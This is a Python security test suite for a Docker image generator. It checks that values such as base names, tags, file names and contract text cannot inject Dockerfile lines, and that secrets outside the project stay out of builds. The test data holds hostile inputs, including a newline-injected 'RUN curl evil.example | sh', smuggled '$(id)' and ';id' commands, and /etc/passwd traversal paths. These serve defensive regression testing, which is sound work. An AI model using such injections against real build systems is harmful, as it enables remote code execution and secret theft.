"""THREATS, images: no value writes a Dockerfile's line, and no build packs what lies around.

Each test names the class of hole and the public records of it in other systems.
"""

import json
import re
from pathlib import Path

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from loopline.cli.main import plain
from loopline.delivery.build import build_image
from loopline.delivery.dockerfile import check_base, dockerfile
from loopline.delivery.image import Image
from loopline.errors import DeliveryError

SECRET = "s3cret-of-another-folder"
_WORDS = {"ARG", "FROM", "WORKDIR", "COPY", "RUN", "LABEL", "ENV", "EXPOSE", "USER", "ENTRYPOINT",
          "CMD"}  # fmt: skip


def instructions(text: str) -> list[str]:
    """Return the Dockerfile's instructions as a builder reads them, comments left out."""
    joined = re.sub(r"\\\n", "", text)
    return [line for line in joined.splitlines() if line.strip() and not line.startswith("#")]


def write(base: str) -> str:
    return dockerfile(
        base=base, python="3.11", version="churn-1", targets=("slim",), folders=("keys", "model"),
        offline=False,
    )  # fmt: skip


PLAIN = instructions(write("python:3.11"))


@given(base=st.text(max_size=60))
@example(base="python\nRUN curl evil.example | sh")
@example(base="python:3.11\r\nRUN id")
@example(base="python:3.11\\\nRUN id")
@example(base="python:3.11\u2028RUN id")
@example(base="python:3.11\x85RUN id")
@example(base="python:3.11 AS slim")
@example(base="python:3.11 # escape=`")
@example(base="--platform=x python")
@example(base="${BASE}")
@example(base="$(id)")
@example(base="python:3.11\n")
@example(base="../../etc/passwd")
@example(base="-x")
@example(base="python@sha256:" + "A" * 64)
@settings(max_examples=300, suppress_health_check=[HealthCheck.too_slow])
def test_a_base_writes_one_word_of_one_line_or_is_refused(base: str) -> None:
    """CVE-2026-44345, CVE-2026-44346: a newline in a value wrote Dockerfile lines."""
    try:
        check_base(base)
    except DeliveryError:
        return
    lines = instructions(write(base))

    assert len(lines) == len(PLAIN)
    assert [line for line in lines if line not in PLAIN] in ([], [f"ARG BASE={base}"])
    assert {line.split()[0] for line in lines} <= _WORDS


def test_a_hostile_base_through_the_command_writes_nothing(typed) -> None:
    """CVE-2026-44345: the same through the real door."""
    done = typed("generate", "image", "--base", "python:3.11\nRUN id")

    assert done.exit_code == 1
    assert "is no image" in said(done)
    assert not (typed.root / ".loopline" / "image").exists()


@pytest.mark.parametrize(
    "tag", ["x\nRUN id", "-v", "--volume=/:/x", "x y", "$(id)", "`id`", "x;id", "X", "../x"]
)
def test_a_tag_is_a_name_and_no_option(tmp_path: Path, tag: str) -> None:
    """CVE-2023-4033, CVE-2025-14287: metacharacters, and options in the place of names."""
    image = Image(tmp_path, "churn:1", "slim", ("slim",))

    with pytest.raises(DeliveryError, match="is no name for an image"):
        build_image(image, None, tag, say=lambda _: None)


def said(done) -> str:
    """Return what a command printed, and the refusal that `main` prints after it."""
    refused = "" if done.exception is None else plain(str(done.exception))
    return f"{done.output}{refused}"


def packed(typed) -> dict[str, bytes]:
    done = typed("generate", "image")
    assert done.exit_code == 0, done.output
    folder = typed.root / ".loopline" / "image"
    return {
        str(path.relative_to(folder)): path.read_bytes()
        for path in folder.rglob("*")
        if path.is_file()
    }


def test_a_link_that_leads_out_of_the_project_is_not_packed(typed, tmp_path: Path) -> None:
    """CVE-2026-24123: a build packed secrets from outside the project."""
    outside = tmp_path / "secret.py"
    outside.write_text(SECRET)
    (typed.root / "steps.py").symlink_to(outside)

    done = typed("generate", "image")

    assert done.exit_code == 1
    assert "lies outside the project" in said(done)
    assert SECRET not in said(done)
    assert not (typed.root / ".loopline" / "image").exists()


def test_a_folder_that_leads_out_of_the_project_is_not_packed(typed, tmp_path: Path) -> None:
    """CVE-2026-24123: the same by a folder."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.py").write_text(SECRET)
    (typed.root / "parts").symlink_to(outside)

    assert not [name for name, content in packed(typed).items() if SECRET.encode() in content]


@pytest.mark.parametrize("place", ["../own.txt", "/etc/passwd", "link.txt"])
def test_requirements_from_outside_the_project_are_not_read(
    typed, tmp_path: Path, place: str
) -> None:
    """CVE-2026-24123: a file named by an option."""
    (tmp_path / "own.txt").write_text(SECRET)
    (typed.root / "link.txt").symlink_to(tmp_path / "own.txt")

    done = typed("generate", "image", "--requirements", str(typed.root / place))

    assert done.exit_code == 1
    assert "lies outside the project" in said(done)
    assert SECRET not in said(done)


def test_what_lies_around_in_the_project_is_not_packed(typed) -> None:
    """CVE-2026-24123: data, environments, private keys, databases, tokens and notes stay behind."""
    root = typed.root
    for name in (".env", "notes.txt", "id_rsa", "data.csv", ".git/config", "secrets.json",
                 ".venv/pyvenv.cfg", ".venv/x.py", "venv/pyvenv.cfg", "venv/y.py"):  # fmt: skip
        (root / name).parent.mkdir(exist_ok=True)
        (root / name).write_text(SECRET)
    # A private key, or anything, beside a public one in its file.
    [public] = (root / ".loopline" / "keys" / "trusted").iterdir()
    private = (root / ".loopline" / "keys" / "signing.pem").read_bytes()
    public.write_bytes(public.read_bytes() + private + SECRET.encode())
    made = typed("token", "make", "one", "--scope", "predict")
    assert made.exit_code == 0

    found = packed(typed)

    assert not [name for name, content in found.items() if SECRET.encode() in content]
    assert not [name for name, content in found.items() if b"PRIVATE KEY" in content]
    assert {Path(name).parts[0] for name in found} == {
        ".dockerignore", "Dockerfile", "keys", "model", "project", "wheels",
        "requirements-loopline.txt",
        "requirements-slim.txt", "requirements-batch.txt", "requirements-full.txt",
        "sbom-slim.json", "sbom-batch.json", "sbom-full.json",
    }  # fmt: skip
    own = {name for name in found if name.startswith("project/")}
    assert own == {"project/loopline.yaml", "project/tests/model/test_behaviour.py"}


def test_rows_that_trained_the_model_are_not_packed(typed) -> None:
    """CVE-2026-24123: reference profiles, reports and snapshots hold values of people."""
    names = {Path(name).name for name in packed(typed) if name.startswith("model/")}

    assert names <= {"1.json", "manifest.json", "manifest.sig", "signature.json", "plan.json",
                     "plan.bin", "original.pkl"}  # fmt: skip


def test_a_bundle_that_was_changed_is_not_packed(typed) -> None:
    """CVE-2024-37052 and on: what would be refused by the server does not get into an image."""
    [plan] = (typed.root / ".loopline" / "store" / "bundles").rglob("plan.bin")
    plan.write_bytes(plan.read_bytes()[:-1] + b"\xff")

    done = typed("generate", "image")

    assert done.exit_code == 1
    assert "plan.bin is not what was signed" in said(done)
    assert not (typed.root / ".loopline" / "image").exists()


@pytest.mark.parametrize("name", ["evil\nRUN id.py", "evil\x1b[2J.py", "evil\u202e.py"])
def test_a_file_s_name_with_control_characters_is_refused(typed, name: str) -> None:
    """CVE-2026-44345: names of files end up in listings, logs and layers."""
    (typed.root / name).write_text("x = 1")

    done = typed("generate", "image")

    assert done.exit_code == 1
    assert "control characters" in said(done)
    assert "\x1b" not in said(done)
    assert "\nRUN" not in said(done)


def test_hostile_words_of_the_contract_reach_no_line_of_the_dockerfile(typed) -> None:
    """CVE-2026-44346: the contract's texts are data; only the project's file has them."""
    contract = typed.root / "loopline.yaml"
    text = contract.read_text(encoding="utf-8")
    hostile = json.dumps('x"\nRUN id #\nFROM scratch')
    contract.write_text(re.sub(r"question: .*", lambda _: f"question: {hostile}", text, count=1))

    found = packed(typed)

    lines = instructions(found["Dockerfile"].decode())
    assert not [line for line in lines if "RUN id" in line or "scratch" in line]
    assert {line.split()[0] for line in lines} <= _WORDS


def test_the_folder_of_another_is_not_written_over(typed, tmp_path: Path) -> None:
    """CVE-2025-11201: where something is written to is not where something else was."""
    theirs = tmp_path / "theirs"
    theirs.mkdir()
    (theirs / "Dockerfile").write_text("FROM scratch\n")
    (theirs / "Dockerfile").chmod(0o600)

    done = typed("generate", "image", "--out", str(theirs))

    assert done.exit_code == 1
    assert "holds something else" in said(done)
    assert (theirs / "Dockerfile").read_text() == "FROM scratch\n"
